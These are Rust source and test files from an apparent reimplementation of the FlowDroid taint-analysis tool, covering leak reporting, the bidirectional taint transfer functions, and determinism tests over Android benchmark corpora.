    /// was configured ([`crate::InfoflowConfig::summary_cache`]).
    pub summary_cache: Option<crate::summary_cache::SummaryCacheStats>,
}

impl InfoflowResults {
    /// Number of leaks.
    pub fn leak_count(&self) -> usize {
        self.leaks.len()
    }

    /// Returns `true` if no leaks were found.
    pub fn is_clean(&self) -> bool {
        self.leaks.is_empty()
    }

    /// Distinct (source line, sink line) pairs, the unit the benchmark
    /// ground truth is expressed in.
    pub fn leak_lines(&self, program: &Program) -> BTreeSet<(u32, u32)> {
        self.leaks
            .iter()
            .map(|l| (l.source_line(program), l.sink_line(program)))
            .collect()
    }

    /// Renders a human-readable report.
    pub fn report(&self, program: &Program) -> String {
        use std::fmt::Write;
        let mut out = String::new();
        writeln!(
            out,
            "{} leak(s) found ({} reachable methods, {} fw + {} bw propagations, {:?})",
            self.leaks.len(),
            self.reachable_methods,
            self.forward_propagations,
            self.backward_propagations,
            self.duration
        )
        .unwrap();
        if self.aborted {
            let why = self.abort_reason.map_or("budget", AbortReason::as_str);
            writeln!(
                out,
                "  (analysis aborted ({why}); reported leaks are a lower bound)"
            )
            .unwrap();
        }
        if self.distinct_facts > 0 {
            writeln!(
                out,
                "  ({} distinct facts, {} distinct access paths interned)",
                self.distinct_facts, self.distinct_aps
            )
            .unwrap();
        }
        if let Some(ft) = &self.fact_tables {
            writeln!(
                out,
                "  (fact tables: {} rows, {} sparse / {} dense ({} words), {} widened facts)",
                ft.rows, ft.sparse_rows, ft.dense_rows, ft.dense_words, ft.widened_facts
            )
            .unwrap();
        }
        if let Some(sc) = &self.summary_cache {
            writeln!(
                out,
                "  (summary cache: {} hits, {} misses, {} stale; {} stored methods, {} recorded)",
                sc.hits, sc.misses, sc.stale, sc.store_methods, sc.recorded
            )
            .unwrap();
        }
        for (i, leak) in self.leaks.iter().enumerate() {
            let sink_m = program.signature(leak.sink.method);
            writeln!(out, "  [{}] sink {} (line {}):", i + 1, sink_m, leak.sink_line(program))
                .unwrap();
            writeln!(out, "      tainted: {}", leak.taint).unwrap();
            match leak.source {
                Some(src) => writeln!(
                    out,
                    "      source {} (line {})",
                    program.signature(src.method),
                    line_of(program, src)
                )
                .unwrap(),
                None => writeln!(out, "      source: <unattributed>").unwrap(),
            }
            if !leak.path.is_empty() {
                writeln!(out, "      path ({} steps):", leak.path.len()).unwrap();
                for step in &leak.path {
                    let line = line_of(program, *step);
                    writeln!(
                        out,
                        "        {} @{} (line {})",
                        program.signature(step.method),
                        step.idx,
                        line
                    )
                    .unwrap();
                }
            }
        }
        out
    }
}
