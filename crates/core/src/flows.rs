//! Direction-agnostic taint transfer functions (paper §4.1–§4.2).
//!
//! Every method here is a pure function of (statement, fact) plus the
//! immutable analysis inputs — no solver tables, no worklists — so the
//! sequential [`BiSolver`](crate::solver::BiSolver) and the parallel
//! [`ParBiSolver`](crate::par_solver::ParBiSolver) share one set of
//! flow functions and compute identical fact sets by construction. The
//! only mutable state is the caller-supplied [`ReachCache`], a memo
//! table over the immutable call graph that each engine (or worker
//! thread) owns privately.

use crate::access_path::{AccessPath, ApBase};
use crate::config::InfoflowConfig;
use crate::sourcesink::SourceSinkManager;
use crate::taint::{Fact, Taint};
use crate::wrappers::{Pos, TaintWrapper};
use flowdroid_callgraph::Icfg;
use flowdroid_ir::{
    FieldId, FxHashMap, InvokeExpr, Local, MethodId, Operand, Place, Program, Rvalue, Stmt,
    StmtRef,
};

/// Memo table for "call site transitively reaches method" queries
/// (activation-statement call-tree lookups, paper §4.2). The underlying
/// call-graph reachability is immutable, so engines may keep one cache
/// per worker thread without coordination.
pub(crate) type ReachCache = FxHashMap<(StmtRef, MethodId), bool>;

/// The immutable analysis inputs plus the pure flow functions over
/// them. `Icfg` is `Copy`; the rest are shared borrows, so a `Flows`
/// value can be referenced from many worker threads.
pub(crate) struct Flows<'a> {
    pub icfg: Icfg<'a>,
    pub sources: &'a SourceSinkManager,
    pub wrapper: &'a TaintWrapper,
    pub config: &'a InfoflowConfig,
}

/// Output of the forward call-to-return function at a call site.
pub(crate) struct CallToReturnOut {
    /// Facts holding at the return sites (before activation).
    pub out: Vec<Fact>,
    /// Taints that require an alias query at the call.
    pub alias_gens: Vec<Taint>,
    /// Active taints that reached a sink argument here.
    pub leaks: Vec<Taint>,
    /// The call is a source and `d2` was the zero fact: mark generated
    /// facts with this statement for attribution.
    pub src_mark: bool,
}

/// Output of the backward transfer function at an assignment.
pub(crate) struct BackwardAssignOut {
    /// Taints continuing upward in the backward solver.
    pub back: Vec<Taint>,
    /// Alias taints handed to the forward solver *at* the statement.
    pub fwd_at_n: Vec<Taint>,
    /// Alias taints handed to the forward solver *after* the statement.
    pub fwd_after: Vec<Taint>,
}

impl<'a> Flows<'a> {
    pub fn program(&self) -> &'a Program {
        self.icfg.program()
    }

    pub fn k(&self) -> usize {
        self.config.max_access_path_length
    }

    pub fn stmt(&self, n: StmtRef) -> &'a Stmt {
        self.icfg.stmt(n)
    }

    /// Does the call at `call` transitively reach `target` (used for
    /// activation-statement call-tree lookup, paper §4.2)?
    pub fn call_reaches(&self, cache: &mut ReachCache, call: StmtRef, target: MethodId) -> bool {
        if let Some(&r) = cache.get(&(call, target)) {
            return r;
        }
        let cg = self.icfg.callgraph();
        let r = self
            .icfg
            .callees_of_call(call)
            .iter()
            .any(|&c| c == target || cg.can_reach(c, target));
        cache.insert((call, target), r);
        r
    }

    /// Activates an inactive taint whose activation statement is `n`
    /// itself or transitively inside a call at `n`.
    pub fn maybe_activate(&self, cache: &mut ReachCache, n: StmtRef, t: &Taint) -> Taint {
        if t.active {
            return *t;
        }
        let Some(act) = t.activation else { return *t };
        if act == n {
            return t.activated();
        }
        if self.stmt(n).is_call() && self.call_reaches(cache, n, act.method) {
            return t.activated();
        }
        *t
    }

    /// The access path written by / read from a rvalue, when it is a
    /// plain place read or reference cast.
    pub fn readable_rvalue(rhs: &Rvalue) -> Option<AccessPath> {
        match rhs {
            Rvalue::Read(p) => Some(AccessPath::of_place(p)),
            Rvalue::Cast(_, Operand::Local(l)) => Some(AccessPath::local(*l)),
            _ => None,
        }
    }

    /// Extends the lhs place's access path with `rest` (array writes
    /// collapse to the whole array, dropping `rest`).
    pub fn lhs_ap_with(&self, lhs: &Place, rest: &[FieldId]) -> AccessPath {
        let base = AccessPath::of_place(lhs);
        if matches!(lhs, Place::ArrayElem(..)) {
            return base;
        }
        base.with_suffix(rest, self.k())
    }

    /// The alias-query taint for `g` (which holds after the heap write
    /// or wrapper call at `n`), or `None` when the alias analysis is
    /// disabled (Algorithm 1, line 16).
    pub fn alias_query_taint(&self, n: StmtRef, g: &Taint) -> Option<Taint> {
        if !self.config.enable_alias_analysis {
            return None;
        }
        Some(if self.config.enable_activation_statements {
            if g.active {
                Taint::inactive(g.ap, n)
            } else {
                // Alias chains keep their original activation point.
                *g
            }
        } else {
            g.activated()
        })
    }

    /// The forward transfer function for assignments (paper §4.1).
    /// Returns (output facts, taints requiring an alias query).
    pub fn forward_assign(&self, lhs: &Place, rhs: &Rvalue, t: &Taint) -> (Vec<Fact>, Vec<Taint>) {
        let mut out = Vec::new();
        let mut alias_gens = Vec::new();
        let lhs_is_local = matches!(lhs, Place::Local(_));
        // Strong update on locals only; `x = new` kills taints rooted at
        // `x`; heap locations are never strongly updated (paper §6.1:
        // the Button2 false positive comes exactly from this).
        let killed = match lhs {
            Place::Local(l) => t.ap.base_local() == Some(*l),
            _ => false,
        };
        if !killed {
            out.push(Fact::T(*t));
        }
        // Generation. The remainder borrows the taint's interned field
        // slice — no allocation on this hot path.
        let gen_rest: Option<&[FieldId]> = match rhs {
            Rvalue::Read(p) => {
                let rp = AccessPath::of_place(p);
                t.ap.read_remainder(&rp)
            }
            Rvalue::Cast(_, Operand::Local(l)) => {
                let rp = AccessPath::local(*l);
                t.ap.read_remainder(&rp)
            }
            Rvalue::BinOp(_, a, b) => {
                let matches_op = |o: &Operand| {
                    matches!(o, Operand::Local(l) if t.ap.base_local() == Some(*l) && t.ap.is_empty())
                };
                if matches_op(a) || matches_op(b) {
                    Some(&[])
                } else {
                    None
                }
            }
            Rvalue::UnOp(_, a) => match a {
                Operand::Local(l) if t.ap.base_local() == Some(*l) && t.ap.is_empty() => Some(&[]),
                _ => None,
            },
            Rvalue::Const(_) | Rvalue::New(_) | Rvalue::NewArray(..) | Rvalue::InstanceOf(..) => {
                None
            }
            Rvalue::Cast(_, _) => None,
        };
        if let Some(rest) = gen_rest {
            let ap = self.lhs_ap_with(lhs, rest);
            let g = t.with_ap(ap);
            // Heap writes spawn the backward alias search; statics have
            // no aliases; array writes alias through the array object.
            if !lhs_is_local && !matches!(lhs, Place::StaticField(_)) {
                alias_gens.push(g);
            }
            out.push(Fact::T(g));
        }
        (out, alias_gens)
    }

    /// Facts entering a callee, each with an optional source-statement
    /// mark (for parameter sources).
    pub fn call_flow(
        &self,
        call: &InvokeExpr,
        callee: MethodId,
        d2: &Fact,
    ) -> Vec<(Fact, Option<StmtRef>)> {
        let program = self.program();
        let m = program.method(callee);
        match d2 {
            Fact::Zero => {
                let mut out = vec![(Fact::Zero, None)];
                // Parameter sources: methods overriding framework
                // callback signatures receive tainted data (locations,
                // intents) from the framework.
                let param_sources = self.sources.entry_param_sources(program, callee);
                let starts = self.icfg.start_points_of(callee);
                for i in param_sources {
                    if i < m.param_count() {
                        let ap = AccessPath::local(m.param_local(i));
                        let f = Fact::T(Taint::active(ap));
                        out.push((f, starts.first().copied()));
                    }
                }
                out
            }
            Fact::T(t) => {
                let mut out = Vec::new();
                if let Some(base) = t.ap.base_local() {
                    for (i, arg) in call.args.iter().enumerate() {
                        if arg.as_local() == Some(base) && i < m.param_count() {
                            let ap = t.ap.rebase(ApBase::Local(m.param_local(i)), &[], self.k());
                            out.push((Fact::T(t.with_ap(ap)), None));
                        }
                    }
                    if call.base == Some(base) {
                        if let Some(this) = m.this_local() {
                            let ap = t.ap.rebase(ApBase::Local(this), &[], self.k());
                            out.push((Fact::T(t.with_ap(ap)), None));
                        }
                    }
                } else {
                    // Static-field-rooted taints flow into callees
                    // unchanged (globals).
                    out.push((Fact::T(*t), None));
                }
                out
            }
        }
    }

    /// Maps a taint at a callee exit back into the caller.
    pub fn return_flow(
        &self,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_fact: &Fact,
    ) -> Vec<Taint> {
        let Fact::T(t) = exit_fact else { return Vec::new() };
        let Stmt::Invoke { result, call } = self.stmt(call_site) else { return Vec::new() };
        let program = self.program();
        let m = program.method(callee);
        let mut out = Vec::new();
        match t.ap.base_local() {
            None => out.push(*t), // statics flow back unchanged
            Some(base) => {
                // Parameters: heap side effects flow back through
                // reference-typed parameters; a reassigned primitive
                // parameter does not affect the caller.
                for i in 0..m.param_count() {
                    if m.param_local(i) == base {
                        let is_ref = m.subsig().params[i].is_reference();
                        if !t.ap.is_empty() || is_ref {
                            if let Some(Operand::Local(arg)) = call.args.get(i) {
                                let ap = t.ap.rebase(ApBase::Local(*arg), &[], self.k());
                                out.push(t.with_ap(ap));
                            }
                        }
                    }
                }
                if m.this_local() == Some(base) {
                    if let Some(b) = call.base {
                        let ap = t.ap.rebase(ApBase::Local(b), &[], self.k());
                        out.push(t.with_ap(ap));
                    }
                }
                // Returned value.
                if let Stmt::Return { value: Some(Operand::Local(v)) } = self.stmt(exit) {
                    if *v == base {
                        if let Some(res) = result {
                            let ap = t.ap.rebase(ApBase::Local(*res), &[], self.k());
                            out.push(t.with_ap(ap));
                        }
                    }
                }
            }
        }
        out
    }

    /// The forward call-to-return function: sources, sinks, wrapper
    /// ("shortcut") rules, sanitizers and the native-call fallback
    /// (paper §5).
    pub fn call_to_return(&self, n: StmtRef, d2f: &Fact) -> CallToReturnOut {
        let Stmt::Invoke { result, call } = self.stmt(n) else {
            return CallToReturnOut {
                out: Vec::new(),
                alias_gens: Vec::new(),
                leaks: Vec::new(),
                src_mark: false,
            };
        };
        let result = *result;
        let program = self.program();
        let mut out: Vec<Fact> = Vec::new();
        let mut alias_gens: Vec<Taint> = Vec::new();
        let mut leaks: Vec<Taint> = Vec::new();
        match d2f {
            Fact::Zero => {
                out.push(Fact::Zero);
                // Source calls generate fresh active taints.
                if self.sources.is_source_call(program, call) {
                    if let Some(res) = result {
                        out.push(Fact::T(Taint::active(AccessPath::local(res))));
                    }
                }
            }
            Fact::T(t) => {
                // Sink check happens on the incoming (pre-call) taint.
                if t.active {
                    let sink_args = self.sources.sink_args(program, call);
                    for i in sink_args {
                        if let Some(Operand::Local(a)) = call.args.get(i) {
                            if t.ap.base_local() == Some(*a) {
                                leaks.push(*t);
                            }
                        }
                    }
                }
                // Kill the result local (overwritten by the call).
                let killed = result.is_some() && t.ap.base_local() == result;
                if !killed {
                    out.push(Fact::T(*t));
                }
                // Sanitizers return clean data: suppress every rule that
                // would taint the result (extension; the paper lacks
                // sanitizer support).
                let sanitized = self.sources.is_sanitizer_call(program, call);
                // Wrapper rules ("shortcut rules", paper §5).
                let covers = |pos: Pos| -> bool {
                    TaintWrapper::pos_local(call, result, pos)
                        .is_some_and(|l| t.ap.base_local() == Some(l))
                };
                let targets = self.wrapper.apply(program, call, &covers);
                let has_rule = self.wrapper.has_rule(program, call);
                for pos in targets {
                    if sanitized && matches!(pos, Pos::Ret) {
                        continue;
                    }
                    if let Some(l) = TaintWrapper::pos_local(call, result, pos) {
                        let g = t.with_ap(AccessPath::local(l));
                        if !matches!(pos, Pos::Ret) {
                            alias_gens.push(g);
                        }
                        out.push(Fact::T(g));
                    }
                }
                // Native-call fallback: no explicit rule, body-less
                // target → the return value inherits taint from the
                // receiver or any argument (paper §5).
                if !has_rule
                    && !sanitized
                    && self.config.stub_default_taints_return
                    && self.icfg.callees_of_call(n).is_empty()
                {
                    let base_tainted = call.base.is_some_and(|b| t.ap.base_local() == Some(b));
                    let arg_tainted = call
                        .args
                        .iter()
                        .any(|a| matches!(a, Operand::Local(l) if t.ap.base_local() == Some(*l)));
                    if base_tainted || arg_tainted {
                        if let Some(res) = result {
                            out.push(Fact::T(t.with_ap(AccessPath::local(res))));
                        }
                    }
                }
            }
        }
        let src_mark = d2f.is_zero() && self.sources.is_source_call(program, call);
        CallToReturnOut { out, alias_gens, leaks, src_mark }
    }

    /// The backward (alias-search) transfer function at an assignment
    /// (Algorithm 2, lines 15–18).
    pub fn backward_assign(&self, t: &Taint, lhs: &Place, rhs: &Rvalue) -> BackwardAssignOut {
        let lhs_ap = AccessPath::of_place(lhs);
        let rhs_ap = Self::readable_rvalue(rhs);
        let mut back: Vec<Taint> = Vec::new();
        let mut fwd_at_n: Vec<Taint> = Vec::new();
        let mut fwd_after: Vec<Taint> = Vec::new();

        // Case A (Algorithm 2, line 16: replace lhs by rhs): the traced
        // value was written here.
        let rooted_at_lhs = t.ap.has_prefix(&lhs_ap);
        if rooted_at_lhs {
            if let Some(r) = &rhs_ap {
                let rest = &t.ap.fields()[lhs_ap.len()..];
                let ap = r.with_suffix(rest, self.k());
                let g = t.with_ap(ap);
                if g != *t {
                    fwd_at_n.push(g);
                }
                back.push(g);
            }
            // rhs not readable (new/const/arith): the value was born
            // here; nothing to trace further.
        }
        // Keep the original taint flowing upward unless the assignment
        // strongly defines it (local lhs).
        let strongly_defined = matches!(lhs, Place::Local(l) if t.ap.base_local() == Some(*l));
        if !strongly_defined {
            back.push(*t);
        }
        // Case B: the rhs is (part of) the tainted object — the lhs is
        // an alias *below* this statement. The alias also continues
        // upward (aliases of aliases, e.g. `a.b.c.s` from `b.c.s` at
        // `a.b = b`) unless this statement strongly defines its root;
        // activation statements keep this flow-sensitive.
        if let Some(r) = &rhs_ap {
            if let Some(rest) = t.ap.read_remainder(r) {
                let ap = self.lhs_ap_with(lhs, rest);
                let g = t.with_ap(ap);
                if g != *t {
                    fwd_after.push(g);
                    let strongly_defines_alias =
                        matches!(lhs, Place::Local(l) if g.ap.base_local() == Some(*l));
                    if !strongly_defines_alias {
                        back.push(g);
                    }
                }
            }
        }
        BackwardAssignOut { back, fwd_at_n, fwd_after }
    }

    /// Entry facts for the backward descent into `callee` at call `n`,
    /// as (entry fact, exit statements to seed) pairs. Tracing the
    /// call's *result* seeds only the exit returning the traced local;
    /// parameter / receiver / static facts seed every exit.
    pub fn backward_call_entries(
        &self,
        t: &Taint,
        result: Option<Local>,
        call: &InvokeExpr,
        callee: MethodId,
    ) -> Vec<(Taint, Vec<StmtRef>)> {
        let program = self.program();
        let m = program.method(callee);
        let mut out: Vec<(Taint, Vec<StmtRef>)> = Vec::new();
        let all_exits = || self.icfg.exit_stmts_of(callee);
        match t.ap.base_local() {
            None => out.push((*t, all_exits())), // statics
            Some(base) => {
                if result == Some(base) {
                    // Trace the returned value.
                    for exit in self.icfg.exit_stmts_of(callee) {
                        if let Stmt::Return { value: Some(Operand::Local(v)) } = self.stmt(exit) {
                            let ap = t.ap.rebase(ApBase::Local(*v), &[], self.k());
                            out.push((t.with_ap(ap), vec![exit]));
                        }
                    }
                    return out;
                }
                for (i, arg) in call.args.iter().enumerate() {
                    if arg.as_local() == Some(base) && i < m.param_count() {
                        let ap = t.ap.rebase(ApBase::Local(m.param_local(i)), &[], self.k());
                        out.push((t.with_ap(ap), all_exits()));
                    }
                }
                if call.base == Some(base) {
                    if let Some(this) = m.this_local() {
                        let ap = t.ap.rebase(ApBase::Local(this), &[], self.k());
                        out.push((t.with_ap(ap), all_exits()));
                    }
                }
            }
        }
        out
    }
}
