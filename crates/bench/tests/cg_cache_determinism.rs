//! Determinism sweep for the copy-on-write platform overlay and the
//! callgraph cache: the leak report of every corpus shape (full
//! Android pipeline, callback-heavy app, SecuriBench micro case) must
//! be byte-identical whether the job deep-clones the platform arena or
//! overlays it, and whether its analysis setup was computed cold or
//! replayed from a [`CgCache`] entry — at 1 and 4 taint threads.
//!
//! The warm runs deliberately use a *different* thread count than the
//! cold run that populated the cache: a cached setup is configuration-
//! independent, and replaying it must not leak the cold run's solver
//! shape into the warm report.

use flowdroid_bench::{
    find_job, run_single_lazy, run_single_lazy_deep_clone, shared_platform_snapshot,
};
use flowdroid_core::{CgCache, InfoflowConfig};

const APPS: &[&str] =
    &["insecurebank", "droidbench/Callbacks/Button1", "securibench/Collections/Collections5"];

#[test]
fn overlay_and_cached_runs_match_deep_clone_at_1_and_4_threads() {
    let snapshot = shared_platform_snapshot();
    let cache = CgCache::new(8);
    for name in APPS {
        let job = find_job(name).expect("corpus job");
        for (round, threads) in [1usize, 4].into_iter().enumerate() {
            let config = InfoflowConfig::default().with_taint_threads(threads);

            // The reference: a full deep clone of the platform arena,
            // exactly what the daemon shipped before overlays.
            let deep = run_single_lazy_deep_clone(&job, &config, snapshot);
            assert!(!deep.aborted, "{name} @{threads} threads: deep-clone run aborted");
            assert_eq!(deep.cg_cache_hit, None, "no cache was offered");

            let overlay = run_single_lazy(&job, &config, snapshot, None);
            assert_eq!(
                overlay.report, deep.report,
                "{name} @{threads} threads: overlay program diverged from deep clone"
            );

            // Round 0 populates the cache (miss); round 1 replays it
            // (hit) under a different thread count.
            let cached = run_single_lazy(&job, &config, snapshot, Some(&cache));
            assert_eq!(
                cached.cg_cache_hit,
                Some(round == 1),
                "{name} @{threads} threads: unexpected cache disposition"
            );
            assert_eq!(
                cached.report, deep.report,
                "{name} @{threads} threads: cached-callgraph run diverged from deep clone"
            );
        }
    }
    let s = cache.stats();
    assert_eq!(s.misses as usize, APPS.len(), "one cold miss per app");
    assert_eq!(s.hits as usize, APPS.len(), "one warm hit per app");
    assert_eq!(s.evictions, 0);
    assert_eq!(s.invalidations, 0);
}
