//! Aborted demand-driven jobs must never leave a partially
//! materialized method body behind in shared state: each lazy job
//! works on a private clone of the platform snapshot, so an abort —
//! however it lands relative to body materialization — must leave the
//! shared snapshot byte-identical, and a follow-up clean run over the
//! same snapshot must match an eager run exactly.

use flowdroid_android::encode_snapshot;
use flowdroid_bench::{find_job, run_single, run_single_lazy, shared_platform_snapshot};
use flowdroid_core::{AbortHandle, AbortReason, InfoflowConfig};
use std::time::Duration;

#[test]
fn aborted_lazy_job_leaves_shared_snapshot_untouched() {
    let job = find_job("insecurebank").expect("insecurebank is in the corpus");
    let snapshot = shared_platform_snapshot();
    let before = encode_snapshot(snapshot);

    for threads in [0usize, 2] {
        // A pre-expired deadline aborts the solver at its first poll,
        // after the frontend has already materialized bodies into the
        // job's private clone of the snapshot.
        let aborted = run_single_lazy(
            &job,
            &InfoflowConfig::default()
                .with_taint_threads(threads)
                .with_abort(AbortHandle::with_deadline(Duration::ZERO)),
            snapshot,
            None,
        );
        assert!(aborted.aborted, "{threads} threads: zero deadline must abort");
        assert_eq!(aborted.abort_reason, Some(AbortReason::Deadline));
        assert!(
            aborted.bodies_materialized > 0,
            "{threads} threads: the aborted job should have decoded bodies privately"
        );
        assert_eq!(
            encode_snapshot(snapshot),
            before,
            "{threads} threads: aborted job mutated the shared platform snapshot"
        );
    }

    // The snapshot is still pristine, so a clean lazy run over it
    // matches a from-scratch eager run byte for byte.
    let eager = run_single(&job, &InfoflowConfig::default());
    assert!(!eager.aborted);
    let clean = run_single_lazy(&job, &InfoflowConfig::default(), snapshot, None);
    assert!(!clean.aborted);
    assert_eq!(clean.report, eager.report, "post-abort lazy run diverged from eager");
    assert_eq!(encode_snapshot(snapshot), before, "clean lazy job mutated the snapshot");
}
