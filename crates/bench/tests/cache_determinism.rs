//! Cold-vs-warm determinism for the persistent summary cache: replaying
//! stored end summaries must change *how fast* the fixpoint is reached,
//! never *what* it is. A cold pass (which populates the store but is
//! forbidden from consuming its own discoveries) and a warm pass (which
//! replays the flushed store) must both produce the exact bytes of an
//! uncached run — sequentially and under the parallel taint engine.

use flowdroid_bench::driver::{corpus_report, droidbench_corpus, run_corpus, run_corpus_cold_warm};
use flowdroid_core::InfoflowConfig;

/// Cold-then-warm runs over the DroidBench corpus produce leak reports
/// byte-identical to an uncached run, at 1 and 4 taint-engine workers,
/// and the warm pass actually replays summaries (nonzero hits).
#[test]
fn summary_cache_cold_and_warm_reports_identical() {
    let jobs = droidbench_corpus();
    let uncached = corpus_report(&run_corpus(&jobs, &InfoflowConfig::default(), 1));
    assert!(uncached.contains("leak(s)"));
    for taint_threads in [1usize, 4] {
        let dir = std::env::temp_dir()
            .join(format!("flowdroid-cache-det-{}-{taint_threads}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let config = InfoflowConfig::default().with_taint_threads(taint_threads);
        let (cold, warm) = run_corpus_cold_warm(&jobs, &config, 1, &dir);
        assert_eq!(
            corpus_report(&cold),
            uncached,
            "cold cached report diverged at {taint_threads} taint threads"
        );
        assert_eq!(
            corpus_report(&warm),
            uncached,
            "warm cached report diverged at {taint_threads} taint threads"
        );
        let cold_stats = cold.summary_cache_totals().expect("cold pass ran with a cache");
        assert_eq!(cold_stats.hits, 0, "cold pass must not consume its own store");
        assert!(cold_stats.recorded > 0, "cold pass should stage summaries");
        let warm_stats = warm.summary_cache_totals().expect("warm pass ran with a cache");
        assert!(warm_stats.hits > 0, "warm pass should replay stored summaries");
        assert!(warm_stats.store_methods > 0, "store should hold flushed methods");
        let (cold_fw, cold_bw) = cold.total_propagations();
        let (warm_fw, warm_bw) = warm.total_propagations();
        assert!(
            warm_fw + warm_bw < cold_fw + cold_bw,
            "warm pass should save path edges (cold {}, warm {})",
            cold_fw + cold_bw,
            warm_fw + warm_bw
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}
