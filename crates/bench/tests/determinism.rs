//! Determinism sweeps: the sharded parallel IFDS solver and the
//! parallel corpus driver must produce results identical to their
//! sequential counterparts across all DroidBench apps and every
//! thread count — parallelism must never change *what* is computed.

use flowdroid_android::{generate_dummy_main, install_platform, CallbackAssociation, EntryPointModel};
use flowdroid_bench::driver::{corpus_report, droidbench_corpus, run_corpus};
use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
use flowdroid_core::InfoflowConfig;
use flowdroid_droidbench::all_apps;
use flowdroid_ifds::{IfdsProblem, ParallelSolver, Solver};
use flowdroid_ir::{Local, MethodId, Place, Program, Stmt, StmtRef};

/// The parallel corpus driver's leak report is byte-for-byte identical
/// to the single-threaded run at every thread count, and stable across
/// repeat runs.
#[test]
fn corpus_driver_report_identical_across_thread_counts() {
    let jobs = droidbench_corpus();
    let config = InfoflowConfig::default();
    let baseline = corpus_report(&run_corpus(&jobs, &config, 1));
    assert!(baseline.contains("leak(s)"));
    for threads in [2usize, 4, 8] {
        let report = corpus_report(&run_corpus(&jobs, &config, threads));
        assert_eq!(report, baseline, "corpus report diverged at {threads} threads");
    }
    // Repeat run: same bytes again.
    let again = corpus_report(&run_corpus(&jobs, &config, 4));
    assert_eq!(again, baseline, "corpus report not stable across repeat runs");
}

/// The parallel bidirectional taint engine (forward + backward
/// propagation as interleaved jobs over the work-stealing scheduler)
/// produces byte-for-byte identical leak reports to the sequential
/// solver on every DroidBench app, at every worker count.
#[test]
fn parallel_taint_engine_matches_sequential_on_droidbench() {
    let jobs = droidbench_corpus();
    let sequential = corpus_report(&run_corpus(&jobs, &InfoflowConfig::default(), 1));
    assert!(sequential.contains("leak(s)"));
    for threads in [1usize, 2, 4, 8] {
        let config = InfoflowConfig::default().with_taint_threads(threads);
        let report = corpus_report(&run_corpus(&jobs, &config, 1));
        assert_eq!(report, sequential, "parallel taint report diverged at {threads} threads");
    }
}

/// The demand-driven frontend (platform snapshot clone + lazy method
/// bodies, see `InfoflowConfig::lazy_frontend`) produces byte-for-byte
/// the same leak report as eager loading on the whole corpus, with the
/// sequential solver and with the parallel taint engine — laziness must
/// only move *when* bodies are decoded, never what is analyzed. The
/// lazy sweep must also leave at least one body undecoded overall, or
/// it is not exercising the demand path at all.
#[test]
fn lazy_frontend_report_identical_to_eager() {
    use flowdroid_bench::full_corpus;
    let jobs = full_corpus();
    for taint_threads in [1usize, 4] {
        let eager = InfoflowConfig::default().with_taint_threads(taint_threads);
        let lazy = eager.clone().with_lazy_frontend(true);
        let eager_run = run_corpus(&jobs, &eager, 1);
        let lazy_run = run_corpus(&jobs, &lazy, 1);
        assert_eq!(
            corpus_report(&lazy_run),
            corpus_report(&eager_run),
            "lazy report diverged from eager at {taint_threads} taint thread(s)"
        );
        let (materialized_eager, _) = eager_run.total_bodies();
        assert_eq!(materialized_eager, 0, "eager runs must not touch the demand path");
        let (materialized, skipped) = lazy_run.total_bodies();
        assert!(materialized > 0, "lazy sweep decoded no bodies on demand");
        assert!(skipped > 0, "lazy sweep left no body undecoded — nothing was lazy");
    }
}

/// Interned and whole-fact keys find the same leaks on the whole
/// Android corpus (interning is a pure representation change).
#[test]
fn interned_and_direct_keys_agree() {
    let jobs = droidbench_corpus();
    let interned = corpus_report(&run_corpus(&jobs, &InfoflowConfig::default(), 1));
    let direct = corpus_report(&run_corpus(
        &jobs,
        &InfoflowConfig::default().with_fact_interning(false),
        1,
    ));
    assert_eq!(interned, direct);
}

/// Bitset-backed tabulation tables (the default) produce byte-identical
/// corpus reports to the hash-map tables they replaced — sequentially
/// and through the parallel taint engine at 1 and 4 workers. The table
/// layout is pure representation; the fixpoint and its canonicalized
/// reports must not see it.
#[test]
fn bitset_tables_report_identical_to_hash_tables() {
    use flowdroid_bench::full_corpus;
    let jobs = full_corpus();
    for taint_threads in [0usize, 1, 4] {
        let bitset = InfoflowConfig::default().with_taint_threads(taint_threads);
        let hash = bitset.clone().with_bitset_tables(false);
        let bitset_run = run_corpus(&jobs, &bitset, 1);
        let hash_run = run_corpus(&jobs, &hash, 1);
        assert_eq!(
            corpus_report(&bitset_run),
            corpus_report(&hash_run),
            "bitset-table report diverged from hash tables at {taint_threads} taint thread(s)"
        );
        // The sweep must actually exercise both representations.
        assert!(
            bitset_run.fact_table_totals().is_some_and(|t| t.rows > 0),
            "bitset run recorded no table rows at {taint_threads} taint thread(s)"
        );
        assert!(
            hash_run.fact_table_totals().is_none(),
            "hash-table run unexpectedly reported density counters"
        );
    }
}

/// Fact for [`DefinedLocals`]: `None` is zero, `Some(l)` means local
/// `l` may have been written on some path.
type Fact = Option<Local>;

/// A simple but genuinely interprocedural IFDS problem that runs on
/// any ICFG: which locals may have been assigned. Definitions flow
/// into callees through arguments and back out through return values,
/// so the solver's summary/incoming machinery is exercised on the real
/// DroidBench supergraphs (dummy main, lifecycle methods, callbacks).
struct DefinedLocals<'a> {
    icfg: Icfg<'a>,
    entry: MethodId,
}

impl DefinedLocals<'_> {
    fn stmt(&self, n: StmtRef) -> &Stmt {
        self.icfg.stmt(n)
    }
}

impl IfdsProblem for DefinedLocals<'_> {
    type Fact = Fact;

    fn zero(&self) -> Fact {
        None
    }

    fn initial_seeds(&self) -> Vec<(StmtRef, Fact)> {
        vec![(StmtRef::new(self.entry, 0), None)]
    }

    fn normal_flow(&self, n: StmtRef, _succ: StmtRef, d: &Fact) -> Vec<Fact> {
        let mut out = vec![*d];
        if d.is_none() {
            if let Stmt::Assign { lhs: Place::Local(lhs), .. } = self.stmt(n) {
                out.push(Some(*lhs));
            }
        }
        out
    }

    fn call_flow(&self, call: StmtRef, callee: MethodId, d: &Fact) -> Vec<Fact> {
        let Some(t) = d else { return vec![None] };
        let Some(expr) = self.stmt(call).invoke_expr() else { return vec![] };
        let m = self.icfg.program().method(callee);
        let mut out = Vec::new();
        for (i, arg) in expr.args.iter().enumerate() {
            if arg.as_local() == Some(*t) {
                out.push(Some(m.param_local(i)));
            }
        }
        out
    }

    fn return_flow(
        &self,
        call: StmtRef,
        _callee: MethodId,
        exit: StmtRef,
        _return_site: StmtRef,
        d: &Fact,
    ) -> Vec<Fact> {
        let Some(t) = d else { return vec![None] };
        if let Stmt::Return { value: Some(v) } = self.stmt(exit) {
            if v.as_local() == Some(*t) {
